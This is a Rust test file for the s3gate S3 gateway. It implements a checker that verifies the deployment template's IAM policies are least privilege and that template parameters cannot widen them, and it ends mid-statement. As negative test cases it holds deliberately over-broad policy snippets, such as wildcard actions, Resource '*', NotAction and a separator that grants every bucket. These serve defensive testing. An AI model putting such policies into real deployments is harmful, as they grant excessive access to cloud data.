//! Security properties checked from the outside (SECURITY.md): the
//! template's IAM policies grant only what the enabled features need, on the
//! bucket and prefix only (and the checker is shown to catch bad policies);
//! object metadata never becomes a response header; objects that can hold
//! script are sandboxed in every answer s3gate sends them in (a presigned
//! URL is S3's answer: see SECURITY.md); the embedded store stays on
//! loopback; the local gateway accepts a key only whole.
//!
//! Covered elsewhere, not repeated here: the CSP and `nosniff` on every
//! sample type (`objects::every_content_type_comes_back_byte_identical`),
//! a missing, empty, wrong or one-character-short key refused with API
//! Gateway's answer (`gateway::api_keys_are_enforced_with_api_gateways_answer`),
//! `constant_time_eq` on small inputs (unit test in `src/local/gateway.rs`),
//! metadata with CR/LF never reaching a header at the unit level
//! (`response::tests::metadata_cannot_inject_headers`), error bodies without
//! internal detail (`support::Wire::assert_error`, used by every error test).

use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr};

use aws_sdk_s3::primitives::ByteStream;
use s3gate::local::EmbeddedStore;
use s3gate::local::gateway::{Gateway, GatewayConfig, constant_time_eq};
use s3gate::{ProxyEvent, ProxyResponse};
use serde_json::Value as Json;
use serde_json::Value;

use crate::support::{Fixture, event, keyed_get, repo, sample};

// ---------------------------------------------------------------------------
// IAM: a checker for the template's policies.
// ---------------------------------------------------------------------------

/// The S3 object ARN the role may act on, as `!Sub` writes it (partition
/// normalised to `aws`).
const OBJECT_ARN: &str = "arn:aws:s3:::${BucketName}/${KeyPrefix}*";
/// The variant cache's folder, the one place `s3:PutObject` may reach
/// without writes on.
const VARIANT_ARN: &str = "arn:aws:s3:::${BucketName}/${KeyPrefix}${VariantPrefix}*";
/// The bucket ARN `s3:ListBucket` needs.
const BUCKET_ARN: &str = "arn:aws:s3:::${BucketName}";

/// A `!Tag value` node (read as CloudFormation's long form, `{"Fn::Tag":
/// value}` or `{"Ref": value}`): its tag without `!`/`Fn::`, and its value.
fn tagged(v: &Value) -> Option<(String, &Value)> {
    let map = v.as_object().filter(|m| m.len() == 1)?;
    let (name, value) = map.iter().next()?;
    let tag = match name.as_str() {
        "Ref" | "Condition" => name.as_str(),
        other => other.strip_prefix("Fn::")?,
    };
    Some((tag.to_string(), value))
}

fn field<'a>(v: &'a Value, name: &str) -> Option<&'a Value> {
    v.as_object()?.get(name)
}

/// A scalar or a list of scalars (Action, Resource): the items.
fn items(v: &Value) -> Vec<&Value> {
    match v {
        Value::Array(s) => s.iter().collect(),
        other => vec![other],
    }
}

/// Whether the template's condition `name` is `!Equals [!Ref param, "true"]`
/// (either order).
fn condition_is_on(template: &Value, name: &str, param: &str) -> bool {
    let Some(cond) = field(template, "Conditions").and_then(|c| field(c, name)) else {
        return false;
    };
    let Some((tag, args)) = tagged(cond) else {
        return false;
    };
    let Some(args) = args.as_array().filter(|a| a.len() == 2) else {
        return false;
    };
    let is_ref = |v: &Value| {
        tagged(v).is_some_and(|(t, target)| t == "Ref" && target.as_str() == Some(param))
    };
    let is_true = |v: &Value| v.as_str() == Some("true");
    tag == "Equals"
        && ((is_ref(&args[0]) && is_true(&args[1])) || (is_true(&args[0]) && is_ref(&args[1])))
}

/// `Condition: {Null: {s3:prefix: "true"}}`: ListBucket only without a
/// prefix, which is how S3 authorizes HeadBucket.
fn no_prefix_condition(s: &Value) -> bool {
    let c = field(s, "Condition");
    c.and_then(Value::as_object).is_some_and(|m| m.len() == 1)
        && c.and_then(|c| field(c, "Null"))
            .and_then(|n| field(n, "s3:prefix"))
            .and_then(Value::as_str)
            == Some("true")
}

/// Whether condition `name` is bucket mode's, `!Not [!Equals [!Ref
/// Buckets, ""]]`, or an `!And` with it among its terms.
fn implies_bucket_mode(template: &Value, name: &str) -> bool {
    let Some(cond) = field(template, "Conditions").and_then(|c| field(c, name)) else {
        return false;
    };
    let is_bucket_mode = |v: &Value| {
        let not = tagged(v).filter(|(t, _)| t == "Not").map(|(_, a)| a);
        let eq = not
            .and_then(|a| a.as_array()?.first())
            .and_then(tagged)
            .filter(|(t, _)| t == "Equals")
            .and_then(|(_, pair)| pair.as_array());
        eq.is_some_and(|pair| {
            pair.len() == 2
                && pair.iter().any(|v| {
                    tagged(v)
                        .is_some_and(|(t, target)| t == "Ref" && target.as_str() == Some("Buckets"))
                })
                && pair.iter().any(|v| v.as_str() == Some(""))
        })
    };
    if is_bucket_mode(cond) {
        return true;
    }
    match tagged(cond) {
        Some((t, args)) if t == "And" => items(args).into_iter().any(|term| {
            tagged(term).is_some_and(|(t, target)| {
                t == "Condition"
                    && target
                        .as_str()
                        .is_some_and(|c| implies_bucket_mode(template, c))
            }) || is_bucket_mode(term)
        }),
        _ => false,
    }
}

/// Whether condition `name` is on only when listing is on or in bucket
/// mode: AllowList's condition, bucket mode's, or an `!Or` of such.
fn listing_allowed(template: &Value, name: &str) -> bool {
    if condition_is_on(template, name, "AllowList") || implies_bucket_mode(template, name) {
        return true;
    }
    let Some(cond) = field(template, "Conditions").and_then(|c| field(c, name)) else {
        return false;
    };
    match tagged(cond) {
        Some((t, args)) if t == "Or" => items(args).into_iter().all(|term| {
            tagged(term).is_some_and(|(t, target)| {
                t == "Condition"
                    && target
                        .as_str()
                        .is_some_and(|c| listing_allowed(template, c))
            })
        }),
        _ => false,
    }
}

/// Whether condition `name` needs both bucket mode and `AdminOperations`.
fn admin_operations_on(template: &Value, name: &str) -> bool {
    let Some(cond) = field(template, "Conditions").and_then(|c| field(c, name)) else {
        return false;
    };
    let Some((t, args)) = tagged(cond) else {
        return false;
    };
    let terms = items(args);
    let needs_admin = terms.iter().any(|term| {
        tagged(term).is_some_and(|(t, pair)| {
            t == "Equals"
                && pair.as_array().is_some_and(|p| {
                    p.iter().any(|v| {
                        tagged(v).is_some_and(|(t, target)| {
                            t == "Ref" && target.as_str() == Some("AdminOperations")
                        })
                    }) && p.iter().any(|v| v.as_str() == Some("true"))
                })
        })
    });
    t == "And" && needs_admin && implies_bucket_mode(template, name)
}

/// Bucket mode's Resource, one ARN per allowlisted bucket:
/// `!Split [",", !Join ["", ["arn:aws:s3:::", !Join ["SUFFIX,arn:aws:s3:::",
/// !Split [",", !Ref Buckets]], "SUFFIX"]]]`, read as
/// `arn:aws:s3:::${Bucket}SUFFIX`. Anything else is refused.
fn bucket_list_text(v: &Value) -> Result<String, String> {
    let refuse = || {
        Err(format!(
            "bucket-mode Resource {v}: not one ARN per allowlisted bucket"
        ))
    };
    let Some((t, args)) = tagged(v) else {
        return refuse();
    };
    let args = args.as_array().cloned().unwrap_or_default();
    if t != "Split" || args.len() != 2 || args[0].as_str() != Some(",") {
        return refuse();
    }
    let Some(("Join", join)) = tagged(&args[1]).as_ref().map(|(t, a)| (t.as_str(), *a)) else {
        return refuse();
    };
    let join = join.as_array().cloned().unwrap_or_default();
    let parts = join
        .get(1)
        .and_then(Value::as_array)
        .cloned()
        .unwrap_or_default();
    if join.first().and_then(Value::as_str) != Some("") || !(2..=3).contains(&parts.len()) {
        return refuse();
    }
    let suffix = parts.get(2).and_then(Value::as_str).unwrap_or("");
    if parts[0].as_str() != Some("arn:aws:s3:::") {
        return refuse();
    }
    let Some(("Join", inner)) = tagged(&parts[1]).as_ref().map(|(t, a)| (t.as_str(), *a)) else {
        return refuse();
    };
    let inner = inner.as_array().cloned().unwrap_or_default();
    let sep_ok = inner.first().and_then(Value::as_str) == Some(&format!("{suffix},arn:aws:s3:::"));
    let list_ok = inner.get(1).and_then(tagged).is_some_and(|(t, a)| {
        t == "Split"
            && a.as_array().is_some_and(|a| {
                a.len() == 2
                    && a[0].as_str() == Some(",")
                    && tagged(&a[1])
                        .is_some_and(|(t, target)| t == "Ref" && target.as_str() == Some("Buckets"))
            })
    });
    if !sep_ok || !list_ok || suffix.contains(['*', '?']) && !suffix.ends_with("/*") {
        return refuse();
    }
    Ok(format!("arn:aws:s3:::${{Bucket}}{suffix}"))
}

/// What a single-bucket ARN is in bucket mode: whole buckets, the default
/// variant folder (the template's Rules hold the parameters to that).
fn in_bucket_mode(want: &str) -> String {
    want.replace("${BucketName}", "${Bucket}")
        .replace("${KeyPrefix}", "")
        .replace("${VariantPrefix}", "_variants/")
}

/// A Resource as text: a literal string as is; `!Sub "…"` with the
/// partition made `aws`; `!GetAtt X.Arn` as `GetAtt:X.Arn`.
fn resource_text(v: &Value) -> Result<String, String> {
    match tagged(v) {
        None => match v.as_str() {
            Some(s) if s.contains("${") => Err(format!(
                "Resource {s:?} has ${{…}} outside !Sub: it is not substituted"
            )),
            Some(s) => Ok(s.to_string()),
            None => Err(format!("Resource {v:?} is not a string")),
        },
        Some((tag, inner)) => match (tag.as_str(), inner.as_str()) {
            ("Sub", Some(s)) => Ok(s.replace("${AWS::Partition}", "aws")),
            ("GetAtt", Some(s)) => Ok(format!("GetAtt:{s}")),
            _ => Err(format!(
                "Resource !{tag} {inner:?}: only a string, !Sub \"…\" or !GetAtt are checked"
            )),
        },
    }
}

struct Checker<'a> {
    template: &'a Value,
    findings: Vec<String>,
}

impl Checker<'_> {
    fn find(&mut self, place: &str, what: String) {
        self.findings.push(format!("{place}: {what}"));
    }

    /// Walks every resource for policy documents, managed policies, SAM
    /// policy shortcuts and functions' roles.
    fn run(&mut self) {
        let Some(resources) = field(self.template, "Resources").and_then(Value::as_object) else {
            self.find("template", "no Resources".into());
            return;
        };
        for (name, resource) in resources {
            let name = name.clone();
            let kind = field(resource, "Type")
                .and_then(Value::as_str)
                .unwrap_or("");
            if matches!(
                kind,
                "AWS::IAM::User" | "AWS::IAM::Group" | "AWS::IAM::AccessKey"
            ) {
                self.find(
                    &name,
                    format!("{kind}: s3gate needs no IAM users, groups or keys"),
                );
            }
            if matches!(kind, "AWS::Serverless::Function" | "AWS::Lambda::Function") {
                self.function_role(&name, resource);
            }
            self.walk(&name, resource);
        }
    }

    /// A function must run as a role this template defines (and so this
    /// checker reads); without `Role` SAM makes one with managed policies.
    fn function_role(&mut self, name: &str, function: &Value) {
        let role = field(function, "Properties").and_then(|p| field(p, "Role"));
        let target = role.and_then(tagged).and_then(|(tag, v)| {
            (tag == "GetAtt").then(|| v.as_str().and_then(|s| s.strip_suffix(".Arn")))?
        });
        let defined = target.is_some_and(|t| {
            field(self.template, "Resources")
                .and_then(|r| field(r, t))
                .and_then(|r| field(r, "Type"))
                .and_then(Value::as_str)
                == Some("AWS::IAM::Role")
        });
        if !defined {
            self.find(
                name,
                format!("Role {role:?} is not !GetAtt <a role of this template>.Arn"),
            );
        }
    }

    fn walk(&mut self, place: &str, v: &Value) {
        match v {
            Value::Object(m) => {
                for (k, child) in m {
                    let key = k.as_str();
                    let here = format!("{place}.{key}");
                    match key {
                        "PolicyDocument" => self.document(&here, child, false),
                        "AssumeRolePolicyDocument" => self.document(&here, child, true),
                        "ManagedPolicyArns" => self.find(
                            &here,
                            "managed policies cannot be checked here (AWSLambdaBasicExecutionRole alone allows logs:CreateLogGroup on \"*\")".into(),
                        ),
                        "Policies" => {
                            for (i, p) in items(child).into_iter().enumerate() {
                                if field(p, "PolicyDocument").is_none() {
                                    self.find(
                                        &format!("{here}[{i}]"),
                                        format!("{p:?}: a SAM policy template, managed policy or bare statement list expands to statements this checker cannot see; use the role's PolicyDocument"),
                                    );
                                }
                            }
                            self.walk(&here, child);
                        }
                        _ => self.walk(&here, child),
                    }
                }
            }
            Value::Array(s) => {
                for (i, child) in s.iter().enumerate() {
                    self.walk(&format!("{place}[{i}]"), child);
                }
            }
            _ => {}
        }
    }

    fn document(&mut self, place: &str, doc: &Value, trust: bool) {
        let Some(statements) = field(doc, "Statement") else {
            self.find(place, "no Statement".into());
            return;
        };
        for (i, statement) in items(statements).into_iter().enumerate() {
            self.statement(&format!("{place}.Statement[{i}]"), statement, &[], trust);
        }
    }

    /// One statement, or an `!If` choosing between two: each branch is
    /// checked with the condition it sits behind.
    fn statement(&mut self, place: &str, s: &Value, behind: &[(String, bool)], trust: bool) {
        if let Some((tag, args)) = tagged(s) {
            match (tag.as_str(), args.as_array().map(Vec::as_slice)) {
                ("Ref", _) if args.as_str() == Some("AWS::NoValue") => {}
                ("If", Some([cond, yes, no])) => {
                    let cond = cond.as_str().unwrap_or("?").to_string();
                    for (branch, on) in [(yes, true), (no, false)] {
                        let mut b = behind.to_vec();
                        b.push((cond.clone(), on));
                        self.statement(&format!("{place}(!If {cond}={on})"), branch, &b, trust);
                    }
                }
                _ => self.find(place, format!("!{tag} statement: not checkable")),
            }
            return;
        }
        if !s.is_object() {
            self.find(place, format!("statement {s:?} is not a mapping"));
            return;
        }
        for not in ["NotAction", "NotResource", "NotPrincipal"] {
            if field(s, not).is_some() {
                self.find(place, format!("{not} allows everything it does not name"));
            }
        }
        match field(s, "Effect").and_then(Value::as_str) {
            Some("Allow") => {}
            // A Deny only narrows what the Allows grant.
            Some("Deny") => return,
            other => {
                self.find(place, format!("Effect {other:?}"));
                return;
            }
        }
        let actions: Vec<String> = match field(s, "Action") {
            None => {
                self.find(place, "no Action".into());
                return;
            }
            Some(a) => items(a)
                .into_iter()
                .filter_map(|a| match a.as_str() {
                    Some(a) => Some(a.to_string()),
                    None => {
                        self.find(place, format!("Action {a:?} is not a literal string"));
                        None
                    }
                })
                .collect(),
        };
        if trust {
            self.trust(place, s, &actions);
            return;
        }
        let resources: Vec<&Value> = field(s, "Resource").map(items).unwrap_or_default();
        if resources.is_empty() {
            self.find(place, "no Resource".into());
        }
        let behind_on = |param: &str| {
            behind
                .iter()
                .any(|(c, on)| *on && condition_is_on(self.template, c, param))
        };
        let (writes_on, cache_on) = (behind_on("AllowWrite"), behind_on("VariantCache"));
        let listing_on = behind
            .iter()
            .any(|(c, on)| *on && listing_allowed(self.template, c));
        let bucket_mode = behind
            .iter()
            .any(|(c, on)| *on && implies_bucket_mode(self.template, c));
        let admin_on = behind
            .iter()
            .any(|(c, on)| *on && admin_operations_on(self.template, c));
        for action in &actions {
            if action.contains(['*', '?']) {
                self.find(place, format!("wildcard action {action:?}"));
                continue;
            }
            let want = match action.to_ascii_lowercase().as_str() {
                "s3:getobject" => OBJECT_ARN,
                // The variant cache: PutObject on its folder alone.
                "s3:putobject" if cache_on && !writes_on => VARIANT_ARN,
                "s3:putobject" | "s3:deleteobject" => {
                    if !writes_on {
                        self.find(
                            place,
                            format!(
                                "write action {action} not behind !If on AllowWrite == \"true\""
                            ),
                        );
                    }
                    OBJECT_ARN
                }
                // Bucket mode's HeadBucket: ListBucket without a prefix.
                "s3:listbucket" if bucket_mode && no_prefix_condition(s) => BUCKET_ARN,
                "s3:listbucket" => {
                    if !listing_on {
                        self.find(
                            place,
                            format!("{action} not behind !If on AllowList == \"true\""),
                        );
                    }
                    self.prefix_condition(place, s);
                    BUCKET_ARN
                }
                "s3:createbucket" | "s3:deletebucket" => {
                    if !admin_on {
                        self.find(
                            place,
                            format!("{action} not behind !If on bucket mode and AdminOperations == \"true\""),
                        );
                    }
                    BUCKET_ARN
                }
                "logs:createlogstream" | "logs:putlogevents" => "GetAtt:<LogGroup>.Arn",
                _ => {
                    self.find(
                        place,
                        format!("action {action} is not one s3gate needs (add it to this checker only with a reason)"),
                    );
                    continue;
                }
            };
            // Each Resource with the bucket mode it is used in: a plain one
            // as is; `!If [<bucket mode>, per-bucket, single]` both ways.
            let mut checked: Vec<(Result<String, String>, bool)> = Vec::new();
            for r in &resources {
                match tagged(r) {
                    Some((t, args)) if t == "If" => {
                        let a = args.as_array().cloned().unwrap_or_default();
                        let cond = a.first().and_then(Value::as_str).unwrap_or("?");
                        if a.len() != 3 || !implies_bucket_mode(self.template, cond) {
                            checked.push((
                                Err(format!(
                                    "Resource !If {args:?}: only !If on bucket mode is checked"
                                )),
                                false,
                            ));
                            continue;
                        }
                        checked.push((bucket_list_text(&a[1]), true));
                        checked.push((resource_text(&a[2]), bucket_mode));
                    }
                    Some((t, _)) if t == "Split" => {
                        if !bucket_mode {
                            checked.push((
                                Err(format!("per-bucket Resource {r}: not behind bucket mode")),
                                false,
                            ));
                        } else {
                            checked.push((bucket_list_text(r), true));
                        }
                    }
                    _ => checked.push((resource_text(r), bucket_mode)),
                }
            }
            for (text, per_bucket) in checked {
                let want = if per_bucket && !want.starts_with("GetAtt:") {
                    in_bucket_mode(want)
                } else {
                    want.to_string()
                };
                let want = want.as_str();
                match text {
                    Err(e) => self.find(place, e),
                    Ok(got) if want.starts_with("GetAtt:") => {
                        if !self.is_log_group_arn(&got) {
                            self.find(
                                place,
                                format!("{action} on {got:?}: only the function's own log group (!GetAtt <an AWS::Logs::LogGroup>.Arn)"),
                            );
                        }
                    }
                    Ok(got) if got != want => {
                        let why = if got == "*" || got.ends_with(":::*") {
                            "every bucket"
                        } else if got.ends_with("/*") && !got.contains("${KeyPrefix}") {
                            "the whole bucket, not the prefix (want …/${KeyPrefix}*)"
                        } else {
                            "not the bucket and prefix s3gate serves"
                        };
                        self.find(
                            place,
                            format!("{action} on Resource {got:?} is {why}; want {want:?}"),
                        );
                    }
                    Ok(_) => {}
                }
            }
        }
    }

    /// `s3:ListBucket` must carry `StringLike: {s3:prefix: !Sub
    /// "${KeyPrefix}*"}`, or the role could list the whole bucket (bucket
    /// mode's HeadBucket grant aside: [`no_prefix_condition`]).
    fn prefix_condition(&mut self, place: &str, s: &Value) {
        let prefix = field(s, "Condition")
            .and_then(|c| field(c, "StringLike"))
            .and_then(|c| field(c, "s3:prefix"));
        let ok = prefix
            .and_then(tagged)
            .is_some_and(|(tag, v)| tag == "Sub" && v.as_str() == Some("${KeyPrefix}*"));
        if !ok {
            self.find(
                place,
                format!("s3:ListBucket without Condition StringLike s3:prefix: !Sub \"${{KeyPrefix}}*\" (got {prefix:?})"),
            );
        }
    }

    fn is_log_group_arn(&self, got: &str) -> bool {
        got.strip_prefix("GetAtt:")
            .and_then(|s| s.strip_suffix(".Arn"))
            .and_then(|name| field(self.template, "Resources").and_then(|r| field(r, name)))
            .and_then(|r| field(r, "Type"))
            .and_then(Value::as_str)
            == Some("AWS::Logs::LogGroup")
    }

    /// A trust policy: only the Lambda service may assume the role.
    fn trust(&mut self, place: &str, s: &Value, actions: &[String]) {
        if actions != ["sts:AssumeRole"] {
            self.find(
                place,
                format!("trust policy actions {actions:?}: want [\"sts:AssumeRole\"]"),
            );
        }
        let principal = field(s, "Principal");
        let services: Vec<&str> = principal
            .and_then(|p| field(p, "Service"))
            .map(items)
            .unwrap_or_default()
            .into_iter()
            .filter_map(Value::as_str)
            .collect();
        let only_service = principal
            .and_then(Value::as_object)
            .is_some_and(|m| m.len() == 1);
        if services != ["lambda.amazonaws.com"] || !only_service {
            self.find(
                place,
                format!(
                    "trust policy Principal {principal:?}: want only Service lambda.amazonaws.com"
                ),
            );
        }
    }
}

fn policy_findings(template: &Value) -> Vec<String> {
    let mut checker = Checker {
        template,
        findings: Vec::new(),
    };
    checker.run();
    checker.findings
}

fn parse(yaml: &str) -> Value {
    crate::support::yaml(yaml).unwrap_or_else(|e| panic!("YAML does not parse: {e}\n{yaml}"))
}

fn template_text() -> String {
    std::fs::read_to_string(repo().join("template.yaml")).expect("reading template.yaml")
}

#[test]
fn template_iam_policies_are_least_privilege() {
    let template = parse(&template_text());
    let findings = policy_findings(&template);
    assert!(
        findings.is_empty(),
        "template.yaml grants more than s3gate needs:\n{}",
        findings.join("\n")
    );

    // The checker read what it should have: the role's four statements
    // (read, list, write, logs) and the trust policy. A template whose
    // policies moved out of its sight would pass with no findings.
    let role = field(&template, "Resources")
        .and_then(|r| field(r, "FunctionRole"))
        .expect("a FunctionRole resource");
    let text = serde_json::to_string(role).expect("role serializes");
    for action in [
        "s3:GetObject",
        "s3:ListBucket",
        "s3:PutObject",
        "s3:DeleteObject",
        "logs:PutLogEvents",
        "sts:AssumeRole",
    ] {
        assert!(
            text.contains(action),
            "FunctionRole has no {action}: {text}"
        );
    }

    // Listing and writes are off unless the deployer turns them on.
    for param in ["AllowList", "AllowWrite", "VariantCache"] {
        let default = field(&template, "Parameters")
            .and_then(|p| field(p, param))
            .and_then(|p| field(p, "Default"))
            .and_then(Value::as_str);
        assert_eq!(default, Some("false"), "{param} default");
    }
}

/// The parameters that go into the policy cannot widen it: IAM reads `*`
/// and `?` in an ARN or an `s3:prefix` as wildcards and `${…}` as a policy
/// variable, and a prefix not ending in `/` is no boundary.
#[test]
fn template_parameters_cannot_widen_the_policy() {
    let template = parse(&template_text());
    let pattern = |param: &str| {
        let p = field(&template, "Parameters")
            .and_then(|p| field(p, param))
            .and_then(|p| field(p, "AllowedPattern"))
            .and_then(Value::as_str)
            .unwrap_or_else(|| panic!("{param} has no AllowedPattern"));
        // CloudFormation matches the whole value.
        regex::Regex::new(&format!("^(?:{p})$")).unwrap_or_else(|e| panic!("{param}: {e}"))
    };
    let prefix = pattern("KeyPrefix");
    for ok in ["", "public/", "a/b c/", "photos/2026/"] {
        assert!(prefix.is_match(ok), "KeyPrefix {ok:?} should be allowed");
    }
    for bad in [
        "*",
        "*/",
        "a*/",
        "a?/",
        "?/",
        "${aws:username}/",
        "a$/",
        "/abs/",
        "public",
        "a/b",
    ] {
        assert!(!prefix.is_match(bad), "KeyPrefix {bad:?} must be refused");
    }
    let variants = pattern("VariantPrefix");
    for ok in ["_variants/", "cache/thumbs/", "v 1/"] {
        assert!(
            variants.is_match(ok),
            "VariantPrefix {ok:?} should be allowed"
        );
    }
    for bad in [
        "", "*", "*/", "a*/", "a?/", "${x}/", "/abs/", "variants", "a$/",
    ] {
        assert!(
            !variants.is_match(bad),
            "VariantPrefix {bad:?} must be refused"
        );
    }
    let bucket = pattern("BucketName");
    assert!(bucket.is_match("my-images.example"), "a plain bucket name");
    for bad in ["*", "my-*", "my-bucke?", "b/x", "a:b", "${x}"] {
        assert!(!bucket.is_match(bad), "BucketName {bad:?} must be refused");
    }
}

/// A template of the real one's shape (conditions, log group, role with the
/// given statements and trust policy) for the checker's own tests.
fn role_template(statements: &str, extra_role_properties: &str) -> String {
    format!(
        r#"
Conditions:
  ListingOn: !Equals [!Ref AllowList, "true"]
  WritesOn: !Equals [!Ref AllowWrite, "true"]
  CacheOn: !Equals [!Ref VariantCache, "true"]
  BucketMode: !Not [!Equals [!Ref Buckets, ""]]
  BucketAdminOn: !And [!Condition BucketMode, !Equals [!Ref AdminOperations, "true"]]
Resources:
  LogGroup:
    Type: AWS::Logs::LogGroup
  FunctionRole:
    Type: AWS::IAM::Role
    Properties:
      AssumeRolePolicyDocument:
        Statement:
          - Effect: Allow
            Principal:
              Service: lambda.amazonaws.com
            Action: sts:AssumeRole
{extra_role_properties}
      Policies:
        - PolicyName: s3gate
          PolicyDocument:
            Version: "2012-10-17"
            Statement:
{statements}
"#
    )
}

fn indent(text: &str, by: usize) -> String {
    text.lines()
        .map(|l| format!("{}{l}\n", " ".repeat(by)))
        .collect()
}

/// The checker fails on each kind of over-broad policy it claims to catch,
/// on snippets and on the real template made worse.
#[test]
fn the_policy_checker_catches_bad_policies() {
    let read = r#"- Effect: Allow
  Action: s3:GetObject
  Resource: !Sub "arn:${AWS::Partition}:s3:::${BucketName}/${KeyPrefix}*"
"#;
    let good = role_template(&indent(read, 14), "");
    assert_eq!(
        policy_findings(&parse(&good)),
        Vec::<String>::new(),
        "the good snippet"
    );

    let cases: &[(&str, &str, &str)] = &[
        (
            "Action: \"*\"",
            "- Effect: Allow\n  Action: \"*\"\n  Resource: \"*\"\n",
            "wildcard action \"*\"",
        ),
        (
            "Action: s3:*",
            "- Effect: Allow\n  Action: [\"s3:*\"]\n  Resource: !Sub \"arn:${AWS::Partition}:s3:::${BucketName}/${KeyPrefix}*\"\n",
            "wildcard action \"s3:*\"",
        ),
        (
            "Action: s3:Get*",
            "- Effect: Allow\n  Action: s3:Get*\n  Resource: !Sub \"arn:${AWS::Partition}:s3:::${BucketName}/${KeyPrefix}*\"\n",
            "wildcard action \"s3:Get*\"",
        ),
        (
            "Resource: \"*\"",
            "- Effect: Allow\n  Action: s3:GetObject\n  Resource: \"*\"\n",
            "every bucket",
        ),
        (
            "Resource: arn:aws:s3:::*",
            "- Effect: Allow\n  Action: s3:GetObject\n  Resource: arn:aws:s3:::*\n",
            "every bucket",
        ),
        (
            "bucket/* with a prefix configured",
            "- Effect: Allow\n  Action: s3:GetObject\n  Resource: !Sub \"arn:${AWS::Partition}:s3:::${BucketName}/*\"\n",
            "the whole bucket, not the prefix",
        ),
        (
            "another bucket",
            "- Effect: Allow\n  Action: s3:GetObject\n  Resource: !Sub \"arn:${AWS::Partition}:s3:::other/${KeyPrefix}*\"\n",
            "not the bucket and prefix",
        ),
        (
            "${} outside !Sub",
            "- Effect: Allow\n  Action: s3:GetObject\n  Resource: \"arn:aws:s3:::${BucketName}/${KeyPrefix}*\"\n",
            "outside !Sub",
        ),
        (
            "ListBucket without a prefix condition",
            "- !If\n  - ListingOn\n  - Effect: Allow\n    Action: s3:ListBucket\n    Resource: !Sub \"arn:${AWS::Partition}:s3:::${BucketName}\"\n  - !Ref AWS::NoValue\n",
            "without Condition StringLike s3:prefix",
        ),
        (
            "ListBucket not behind AllowList",
            "- Effect: Allow\n  Action: s3:ListBucket\n  Resource: !Sub \"arn:${AWS::Partition}:s3:::${BucketName}\"\n  Condition:\n    StringLike:\n      s3:prefix: !Sub \"${KeyPrefix}*\"\n",
            "not behind !If on AllowList",
        ),
        (
            "PutObject not behind AllowWrite",
            "- Effect: Allow\n  Action: [s3:GetObject, s3:PutObject]\n  Resource: !Sub \"arn:${AWS::Partition}:s3:::${BucketName}/${KeyPrefix}*\"\n",
            "write action s3:PutObject not behind",
        ),
        (
            "DeleteObject behind the wrong condition",
            "- !If\n  - ListingOn\n  - Effect: Allow\n    Action: s3:DeleteObject\n    Resource: !Sub \"arn:${AWS::Partition}:s3:::${BucketName}/${KeyPrefix}*\"\n  - !Ref AWS::NoValue\n",
            "write action s3:DeleteObject not behind",
        ),
        (
            "PutObject in the else branch",
            "- !If\n  - WritesOn\n  - !Ref AWS::NoValue\n  - Effect: Allow\n    Action: s3:PutObject\n    Resource: !Sub \"arn:${AWS::Partition}:s3:::${BucketName}/${KeyPrefix}*\"\n",
            "write action s3:PutObject not behind",
        ),
        (
            "variant cache write on the whole prefix",
            "- !If\n  - CacheOn\n  - Effect: Allow\n    Action: s3:PutObject\n    Resource: !Sub \"arn:${AWS::Partition}:s3:::${BucketName}/${KeyPrefix}*\"\n  - !Ref AWS::NoValue\n",
            "want \"arn:aws:s3:::${BucketName}/${KeyPrefix}${VariantPrefix}*\"",
        ),
        (
            "variant cache write not behind VariantCache",
            "- Effect: Allow\n  Action: s3:PutObject\n  Resource: !Sub \"arn:${AWS::Partition}:s3:::${BucketName}/${KeyPrefix}${VariantPrefix}*\"\n",
            "write action s3:PutObject not behind",
        ),
        (
            "an action s3gate does not need",
            "- Effect: Allow\n  Action: s3:GetObjectAcl\n  Resource: !Sub \"arn:${AWS::Partition}:s3:::${BucketName}/${KeyPrefix}*\"\n",
            "not one s3gate needs",
        ),
        (
            "NotAction",
            "- Effect: Allow\n  NotAction: s3:DeleteObject\n  Resource: \"*\"\n",
            "NotAction allows everything",
        ),
        (
            "bucket mode: a separator that adds every bucket",
            "- Effect: Allow\n  Action: s3:GetObject\n  Resource: !If\n    - BucketMode\n    - !Split [\",\", !Join [\"\", [\"arn:aws:s3:::\", !Join [\"/*,arn:aws:s3:::*,arn:aws:s3:::\", !Split [\",\", !Ref Buckets]], \"/*\"]]]\n    - !Sub \"arn:${AWS::Partition}:s3:::${BucketName}/${KeyPrefix}*\"\n",
            "not one ARN per allowlisted bucket",
        ),
        (
            "bucket mode: whole buckets for the variant cache",
            "- !If\n  - CacheOn\n  - Effect: Allow\n    Action: s3:PutObject\n    Resource: !If\n      - BucketMode\n      - !Split [\",\", !Join [\"\", [\"arn:aws:s3:::\", !Join [\"/*,arn:aws:s3:::\", !Split [\",\", !Ref Buckets]], \"/*\"]]]\n      - !Sub \"arn:${AWS::Partition}:s3:::${BucketName}/${KeyPrefix}${VariantPrefix}*\"\n  - !Ref AWS::NoValue\n",
            "want \"arn:aws:s3:::${Bucket}/_variants/*\"",
        ),
        (
            "bucket mode: per-bucket grant outside bucket mode",
            "- Effect: Allow\n  Action: s3:GetObject\n  Resource: !Split [\",\", !Join [\"\", [\"arn:aws:s3:::\", !Join [\"/*,arn:aws:s3:::\", !Split [\",\", !Ref Buckets]], \"/*\"]]]\n",
            "not behind bucket mode",
        ),
        (
            "CreateBucket without AdminOperations",
            "- !If\n  - BucketMode\n  - Effect: Allow\n    Action: [s3:CreateBucket, s3:DeleteBucket]\n    Resource: !Split [\",\", !Join [\"\", [\"arn:aws:s3:::\", !Join [\",arn:aws:s3:::\", !Split [\",\", !Ref Buckets]]]]]\n  - !Ref AWS::NoValue\n",
            "not behind !If on bucket mode and AdminOperations",
        ),
        (
            "HeadBucket's grant outside bucket mode",
            "- Effect: Allow\n  Action: s3:ListBucket\n  Resource: !Sub \"arn:${AWS::Partition}:s3:::${BucketName}\"\n  Condition:\n    \"Null\":\n      s3:prefix: \"true\"\n",
            "without Condition StringLike",
        ),
        (
            "logs on every log group",
            "- Effect: Allow\n  Action: logs:PutLogEvents\n  Resource: \"*\"\n",
            "only the function's own log group",
        ),
    ];
    for (name, statement, want) in cases {
        let yaml = role_template(&indent(statement, 14), "");
        let findings = policy_findings(&parse(&yaml));
        assert!(
            findings.iter().any(|f| f.contains(want)),
            "{name}: want a finding containing {want:?}, got {findings:#?}\n{yaml}"
        );
    }

    // Outside the statements: managed policies and a wider trust policy.
    let managed = role_template(
        &indent(read, 14),
        "      ManagedPolicyArns:\n        - arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole",
    );
    let findings = policy_findings(&parse(&managed));
    assert!(
        findings.iter().any(|f| f.contains("managed policies")),
        "{findings:#?}"
    );
    let trust =
